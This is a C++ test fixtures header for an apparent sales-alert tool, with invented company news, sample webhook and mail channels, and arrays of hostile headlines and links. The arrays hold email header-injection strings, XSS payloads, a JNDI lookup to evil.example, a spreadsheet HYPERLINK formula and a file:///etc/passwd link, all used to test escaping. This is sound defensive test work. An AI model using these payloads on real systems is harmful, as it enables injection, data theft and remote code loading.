// News, channels and hostile texts that the alert tests share. All companies are invented.
#pragma once

#include <array>
#include <chrono>
#include <string>
#include <string_view>
#include <vector>

#include "alert/bundle.h"
#include "alert/compose.h"

namespace tipoff::test {

inline constexpr Time march_2{std::chrono::sys_days{std::chrono::year{2026} / 3 / 2} +
                              std::chrono::hours{8}};

inline ScorePart part(Criterion criterion, int points, int of, std::string because) {
  ScorePart made;
  made.criterion = criterion;
  made.points = points;
  made.of = of;
  made.because = std::move(because);
  return made;
}

inline Story sample_story() {
  Story story;
  story.id = 5;
  story.account = "nordwerk";
  story.event = "acquisition";
  story.role = Role::acquirer;
  story.happened_at = march_2 - std::chrono::hours{2};
  story.seen_at = march_2;
  story.rule = "acquisition.en.agrees";
  story.evidence = "Nordwerk to acquire Halden Pumps";
  story.title = "Nordwerk to acquire Halden Pumps for 300 million euros";
  story.url = "https://news.example/nordwerk?id=1&lang=en";
  return story;
}

inline TriggerNews sample_news() {
  TriggerNews news;
  news.story = sample_story();
  news.entry.rank = 3;
  news.entry.id = "nordwerk";
  news.entry.name = "Nordwerk AG";
  news.entry.score.score = 5;
  news.entry.score.max_score = 9;
  news.entry.score.parts = {part(Criterion::industry, 2, 2, "Manufacturing is a target industry"),
                            part(Criterion::trigger, 2, 2, "acquisition announced on 2 Mar 2026")};
  news.entry.why_now = "Nordwerk buys Halden Pumps and must join two supply chains.";
  news.entry.contact.name = "Anna Weber";
  news.entry.contact.title = "COO";
  news.entry.contact.phone = "+49 (0)89 123-456";
  news.entry.contact.email = "anna.weber@nordwerk.example";
  news.entry.owner = "jonas";
  news.at = march_2;
  return news;
}

/// The notice that goes with a piece of news.
inline DueNews due(const TriggerNews& news, const std::string& reason = "new") {
  const std::string story = "story:" + std::to_string(news.story.id) + ":";
  DueNews made;
  made.notice.cause = story + std::string(name_of(news.story.certainty)) + ":" + news.seller;
  made.notice.topic = story + news.seller;
  made.notice.seller = news.seller;
  made.notice.account = news.entry.id;
  made.notice.story = news.story.id;
  made.notice.event = news.story.event;
  made.notice.reason = reason;
  made.notice.made_at = made.notice.release_at = news.at;
  made.news = news;
  return made;
}

/// What a channel's recipients get when they are told of it at once, a message each.
inline std::vector<OutboundMessage> messages_for(const Channel& channel, const TriggerNews& news,
                                                 const std::string& reason) {
  const Bundle bundle{.kind = Bundle::Kind::single, .told = {due(news, reason)}};
  std::vector<OutboundMessage> messages;
  for (const std::string& recipient : recipients_of(channel))
    messages.push_back(
        compose(channel, recipient, bundle.told.front().notice.cause, bundle, news.at));
  return messages;
}

inline Channel sample_webhook() {
  Channel channel;
  channel.name = "crm";
  channel.url = "http://127.0.0.1:9000/hook";
  channel.secrets = {"whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"};
  return channel;
}

inline Channel sample_mail() {
  Channel channel;
  channel.name = "team";
  channel.kind = ChannelKind::email;
  channel.server.url = "smtp://127.0.0.1:2525";
  channel.from = "Tipoff <tipoff@sales.example>";
  channel.to = {"anna@sales.example", "ben@sales.example"};
  return channel;
}

/// Headlines that try to become something else: a header, markup, a script, a link, text that runs
/// the other way.
inline constexpr std::array hostile_titles = {
    std::string_view("Nordwerk\r\nBcc: everyone@evil.example"),
    std::string_view("Nordwerk\nBcc: everyone@evil.example"),
    std::string_view("Nordwerk\rBcc: everyone@evil.example"),
    std::string_view("Nordwerk\r\n\r\n<script>alert(1)</script>"),
    std::string_view("Nordwerk\r\n.\r\nMAIL FROM:<a@evil.example>"),
    std::string_view("Nordwerk\v\f\x1c\x1d\x1e Bcc: everyone@evil.example"),
    std::string_view("Nordwerk \xC2\x85 Bcc: everyone@evil.example"),
    std::string_view("Nordwerk \xE2\x80\xA8 Bcc: \xE2\x80\xA9 everyone@evil.example"),
    std::string_view("=?UTF-8?B?QmNjOiBldmVyeW9uZUBldmlsLmV4YW1wbGU=?="),
    std::string_view("Nordwerk =?utf-8?q?=0D=0ABcc:_everyone@evil.example?= buys"),
    std::string_view("<script>alert('x')</script>"),
    std::string_view("<img src=x onerror=alert(1)>"),
    std::string_view("\"><svg/onload=alert(1)>"),
    std::string_view("' onmouseover='alert(1)"),
    std::string_view("</p></body></html><h1>Paid in full</h1>"),
    std::string_view("<!--"),
    std::string_view("-->]]><b>"),
    std::string_view("<a href=\"javascript:alert(1)\">call</a>"),
    std::string_view("&lt;script&gt;alert(1)&lt;/script&gt;"),
    std::string_view("&#60;script&#62;"),
    std::string_view("\xC0\xBCscript\xC0\xBE"),
    std::string_view("Nordwerk \xE2\x80\xAE gnp.exe"),
    std::string_view("Nordwerk \xE2\x81\xA6\xE2\x80\xAD hidden \xE2\x81\xA9"),
    std::string_view("Nordwerk \x1b]0;owned\x07 \x1b[2J buys"),
    std::string_view("Nordwerk\0Bcc: x", 15),
    std::string_view("Nordwerk \xff\xfe\x80 buys"),
    std::string_view("--=_tipoff_alternative--"),
    std::string_view("=_tipoff_alternative\r\n--=_tipoff_alternative\r\nContent-Type: text/html"),
    std::string_view("\",\"type\":\"call_list.updated\",\"x\":\""),
    std::string_view("\\u000d\\u000aBcc: everyone@evil.example"),
    std::string_view("{{constructor.constructor('alert(1)')()}}"),
    std::string_view("${jndi:ldap://evil.example/a}"),
    std::string_view("诺德公司拟收购哈尔登泵业\r\n密送: everyone@evil.example"),
    std::string_view("诺德公司<b>拟收购</b>哈尔登泵业"),
    std::string_view("=HYPERLINK(\"http://evil.example\";\"Nordwerk\")"),
    std::string_view(""),
    std::string_view(" \t\r\n "),
};

inline constexpr std::array hostile_links = {
    std::string_view("javascript:alert(1)"),
    std::string_view("JaVaScRiPt:alert(1)"),
    std::string_view(" javascript:alert(1)"),
    std::string_view("data:text/html,<script>alert(1)</script>"),
    std::string_view("file:///etc/passwd"),
    std::string_view("vbscript:x"),
    std::string_view("http:"),
    std::string_view("https://"),
    std::string_view("https:///path"),
    std::string_view("//news.example/"),
    std::string_view("news.example"),
    std::string_view(""),
};

}  // namespace tipoff::test
